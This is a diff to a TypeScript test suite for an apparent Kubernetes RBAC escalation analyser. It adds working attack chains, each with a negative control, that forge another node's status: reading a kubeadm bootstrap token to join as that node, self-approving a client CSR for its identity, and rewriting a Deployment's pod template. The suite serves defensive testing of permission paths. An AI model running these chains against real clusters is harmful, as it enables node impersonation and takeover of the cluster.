@@ -83,6 +83,8 @@ async function nodeCertificate(cluster: Cluster, node: string): Promise<{ cert: 
   return { cert, key };
 }
 
+const CSR_PATH = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
+
 /** A pod that mounts the kubelet's directory from the host, privileged, put on node-b by spec.nodeName. */
 const hostPathPod = (name: string) => ({
   apiVersion: 'v1',
@@ -172,6 +174,210 @@ async function createPodAndForge(cluster: Cluster, token: string, namespace: str
   return forgeStatus(cluster, podToken, `system:node:${TARGET}`);
 }
 
+/** A kubeadm cluster's join token, and kubeadm's bindings of its group: ask for a kubelet certificate, auto-approved for nodeclient. */
+const BOOTSTRAP = { id: 'abcdef', secret: '0123456789abcdef', group: 'system:bootstrappers:kubeadm:default-node-token' };
+const KUBEADM_BOOTSTRAP = `apiVersion: v1
+kind: Secret
+type: bootstrap.kubernetes.io/token
+metadata: {name: bootstrap-token-${BOOTSTRAP.id}, namespace: kube-system}
+stringData: {token-id: ${BOOTSTRAP.id}, token-secret: ${BOOTSTRAP.secret}, usage-bootstrap-authentication: "true", usage-bootstrap-signing: "true", auth-extra-groups: "${BOOTSTRAP.group}"}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: "kubeadm:kubelet-bootstrap"}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:node-bootstrapper"}
+subjects: [{kind: Group, name: "${BOOTSTRAP.group}", apiGroup: rbac.authorization.k8s.io}]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: ClusterRoleBinding
+metadata: {name: "kubeadm:node-autoapprove-bootstrap"}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: "system:certificates.k8s.io:certificatesigningrequests:nodeclient"}
+subjects: [{kind: Group, name: "${BOOTSTRAP.group}", apiGroup: rbac.authorization.k8s.io}]
+`;
+
+/**
+ * Reads kube-system's bootstrap token with the reporter's token, joins as a
+ * kubelet would (a node-b client CSR, authenticated as system:bootstrap:<id>),
+ * waits for kube-controller-manager to approve it for nodeclient and sign
+ * it, then writes node-b's status with the certificate.
+ */
+async function bootstrapAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
+  const read = await apiRequest(cluster, {
+    method: 'GET',
+    path: `/api/v1/namespaces/kube-system/secrets/bootstrap-token-${BOOTSTRAP.id}`,
+    token,
+  });
+  if (read.status !== 200) return read;
+  const data = (read.body as { data: Record<string, string> }).data;
+  const decode = (key: string) => Buffer.from(data[key] ?? '', 'base64').toString();
+  const joinToken = `${decode('token-id')}.${decode('token-secret')}`;
+  const { csr, key } = await clientCSR(`system:node:${TARGET}`, 'system:nodes');
+  const name = `join-${Date.now()}`;
+  const created = await apiRequest(cluster, {
+    method: 'POST',
+    path: CSR_PATH,
+    token: joinToken,
+    body: {
+      apiVersion: 'certificates.k8s.io/v1',
+      kind: 'CertificateSigningRequest',
+      metadata: { name },
+      spec: {
+        request: Buffer.from(csr).toString('base64'),
+        signerName: 'kubernetes.io/kube-apiserver-client-kubelet',
+        usages: ['digital signature', 'client auth'],
+      },
+    },
+  });
+  if (created.status !== 201) return created;
+  assert.equal((created.body as { spec: { username: string } }).spec.username, `system:bootstrap:${BOOTSTRAP.id}`);
+  const cert = await poll(30, async () => {
+    const issued = (
+      (await apiRequest(cluster, { method: 'GET', path: `${CSR_PATH}/${name}`, token: joinToken })).body as {
+        status?: { certificate?: string };
+      }
+    ).status?.certificate;
+    return issued ? Buffer.from(issued, 'base64').toString() : null;
+  });
+  if (!cert) return outcome(false, 'kube-controller-manager never signed the join request');
+  // verify reached node-b through the bootstrap token, not only through legacy tokens kube-system might hold.
+  const report = JSON.parse(cli(['verify', '-o', 'json', '--kubeconfig', cluster.kubeconfig]).stdout) as {
+    reporters: { ledger: { identity: string; via: string[] }[] | null }[];
+  };
+  assert.ok(
+    report.reporters[0]?.ledger?.some(
+      (ledger) =>
+        ledger.identity === 'a bootstrap token (system:bootstrappers)' && ledger.via[0]?.startsWith('read Secrets in kube-system:'),
+    ),
+    'verify does not reach the bootstrap token',
+  );
+  return forgeStatus(cluster, '', undefined, { cert, key });
+}
+
+/** A kube-apiserver-client CSR, created with `token`. */
+const apiClientCSR = (cluster: Cluster, token: string, name: string, csr: string) =>
+  apiRequest(cluster, {
+    method: 'POST',
+    path: CSR_PATH,
+    token,
+    body: {
+      apiVersion: 'certificates.k8s.io/v1',
+      kind: 'CertificateSigningRequest',
+      metadata: { name },
+      spec: {
+        request: Buffer.from(csr).toString('base64'),
+        signerName: 'kubernetes.io/kube-apiserver-client',
+        usages: ['digital signature', 'client auth'],
+      },
+    },
+  });
+
+/**
+ * node-b's user and group from the plain client signer: created and approved
+ * with the reporter's token, signed by kube-controller-manager, then it writes
+ * node-b's status as node-b. The same request for system:masters is refused
+ * at create, whoever asks: why the search does not treat this signer as
+ * cluster-admin.
+ */
+async function apiClientCertificateAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
+  const masters = await apiClientCSR(cluster, token, `masters-${Date.now()}`, (await clientCSR('attacker', 'system:masters')).csr);
+  assert.equal(masters.status, 403, masters.message);
+  assert.match(masters.message, /use of kubernetes.io\/kube-apiserver-client signer with system:masters group is not allowed/);
+  const { csr, key } = await clientCSR(`system:node:${TARGET}`, 'system:nodes');
+  const name = `api-client-${Date.now()}`;
+  const created = await apiClientCSR(cluster, token, name, csr);
+  if (created.status !== 201) return created;
+  const request = created.body as { status?: Record<string, unknown> };
+  request.status = { conditions: [{ type: 'Approved', status: 'True', reason: 'Attack', message: 'approved from node-a' }] };
+  const approved = await apiRequest(cluster, { method: 'PUT', path: `${CSR_PATH}/${name}/approval`, token, body: request });
+  if (approved.status !== 200) return approved;
+  const cert = await poll(30, async () => {
+    const read = await apiRequest(cluster, { method: 'GET', path: `${CSR_PATH}/${name}`, token });
+    const issued = (read.body as { status?: { certificate?: string } }).status?.certificate;
+    return issued ? Buffer.from(issued, 'base64').toString() : null;
+  });
+  if (!cert) return outcome(false, 'kube-controller-manager never signed the kube-apiserver-client request');
+  return forgeStatus(cluster, '', undefined, { cert, key });
+}
+
+const apiClientApprover = (name: string, approval: boolean) =>
+  role(
+    name,
+    `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},${
+      approval ? '\n  {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]},' : ''
+    }
+  {apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve], resourceNames: [kubernetes.io/kube-apiserver-client]}]`,
+  );
+
+/** Baseline too, so only the ServiceAccount path is open: a Deployment runs as nobody, beside a ServiceAccount that writes node status. */
+const ROLLOUT = 'rollout';
+const ROLLOUT_OBJECTS = `apiVersion: v1
+kind: Namespace
+metadata: {name: ${ROLLOUT}, labels: {pod-security.kubernetes.io/enforce: baseline}}
+---
+apiVersion: v1
+kind: ServiceAccount
+metadata: {name: status-writer, namespace: ${ROLLOUT}}
+---
+${role('rollout-status-writer', '[{apiGroups: [""], resources: [nodes/status], verbs: [get, update]}]', serviceAccountSubject(ROLLOUT, 'status-writer'))}---
+apiVersion: apps/v1
+kind: Deployment
+metadata: {name: web, namespace: ${ROLLOUT}}
+spec:
+  replicas: 1
+  selector: {matchLabels: {app: web}}
+  template:
+    metadata: {labels: {app: web}}
+    spec: {tolerations: [{operator: Exists}], containers: [{name: c, image: registry.k8s.io/pause:3.10}]}
+`;
+
+/**
+ * Rewrites the Deployment's template with the reporter's token (its pods now
+ * run as status-writer, on node-b); kube-controller-manager's controllers
+ * make the pod, kwok runs it, and its token, minted as its kubelet would,
+ * writes node-b's status.
+ */
+async function rewriteTemplateAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
+  const patched = await apiRequest(cluster, {
+    method: 'PATCH',
+    path: `/apis/apps/v1/namespaces/${ROLLOUT}/deployments/web`,
+    token,
+    body: { spec: { template: { spec: { serviceAccountName: 'status-writer', nodeName: TARGET } } } },
+    contentType: 'application/merge-patch+json',
+  });
+  if (patched.status !== 200) return patched;
+  const pod = await poll(60, async () => {
+    const list = (await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${ROLLOUT}/pods` })).body as {
+      items?: {
+        metadata: { name: string; uid: string };
+        spec: { serviceAccountName?: string; nodeName?: string };
+        status?: { phase?: string };
+      }[];
+    };
+    return (
+      list.items?.find(
+        (item) => item.spec.serviceAccountName === 'status-writer' && item.spec.nodeName === TARGET && item.status?.phase === 'Running',
+      ) ?? null
+    );
+  });
+  if (!pod) return outcome(false, "the controllers never ran the rewritten template's pod on node-b");
+  const podToken = (
+    await cluster.kubectlOk([
+      '-n',
+      ROLLOUT,
+      'create',
+      'token',
+      'status-writer',
+      '--bound-object-kind=Pod',
+      `--bound-object-name=${pod.metadata.name}`,
+      `--bound-object-uid=${pod.metadata.uid}`,
+    ])
+  ).trim();
+  return forgeStatus(cluster, podToken);
+}
+
+const secretReader = (namespace: string) =>
+  role(`secret-reader-${namespace}`, '[{apiGroups: [""], resources: [secrets], verbs: [get, list]}]', undefined, namespace);
+
 const podCreator = (namespace: string) =>
   role(`pod-creator-${namespace}`, '[{apiGroups: [""], resources: [pods], verbs: [create]}]', undefined, namespace);
 
@@ -205,10 +411,62 @@ const attacks: [Attack, Attack][] = [
       capability: 'forge-other-node-conditions',
     },
   ],
+  [
+    {
+      name: "reading Secrets in kube-system: a bootstrap token, joined as node-b with kubeadm's bindings",
+      grants: secretReader('kube-system'),
+      run: bootstrapAndForge,
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      // The same verbs, in the namespace without the tokens: the bootstrap token authenticator reads only kube-system.
+      name: 'reading Secrets only in default, with the same kubeadm bootstrap token in kube-system',
+      grants: secretReader('default'),
+      run: bootstrapAndForge,
+      capability: 'forge-other-node-conditions',
+    },
+  ],
+  [
+    {
+      name: "patching an existing Deployment's template: its pods run as a status writer on node-b",
+      grants: role('rollout-patcher', '[{apiGroups: [apps], resources: [deployments], verbs: [get, patch]}]', undefined, ROLLOUT),
+      run: rewriteTemplateAndForge,
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      // Scaling keeps the template: the pods still run as nobody. Scaling a reporter's Deployment to zero stales its conditions, which no class walks.
+      name: 'update and patch only on deployments/scale',
+      grants: role(
+        'rollout-scaler',
+        '[{apiGroups: [apps], resources: [deployments/scale], verbs: [get, update, patch]}]',
+        undefined,
+        ROLLOUT,
+      ),
+      run: rewriteTemplateAndForge,
+      capability: 'forge-other-node-conditions',
+      unassessed: "scaling a reporter's Deployment or StatefulSet to zero stales its conditions",
+    },
+  ],
+  [
+    {
+      name: "creating and approving a kube-apiserver-client CSR for node-b's user and group: node-b's certificate",
+      grants: apiClientApprover('api-client-approver', true),
+      run: apiClientCertificateAndForge,
+      capability: 'forge-other-node-conditions',
+    },
+    {
+      // One rule less: kube-controller-manager never approves this signer itself, so without the approval subresource nothing is signed.
+      name: 'the same kube-apiserver-client CSR, without certificatesigningrequests/approval',
+      grants: apiClientApprover('api-client-no-approval', false),
+      run: apiClientCertificateAndForge,
+      capability: 'forge-other-node-conditions',
+    },
+  ],
 ];
 
 walkAttacks("pod spec powers, walked for real with node-a's reporter token", attacks, async (cluster) => {
   await namespacesReady(cluster);
+  await cluster.kubectlOk(['apply', '-f', '-'], `${KUBEADM_BOOTSTRAP}---\n${ROLLOUT_OBJECTS}`);
   nodeB = await nodeCertificate(cluster, TARGET);
   return async () => {};
 });
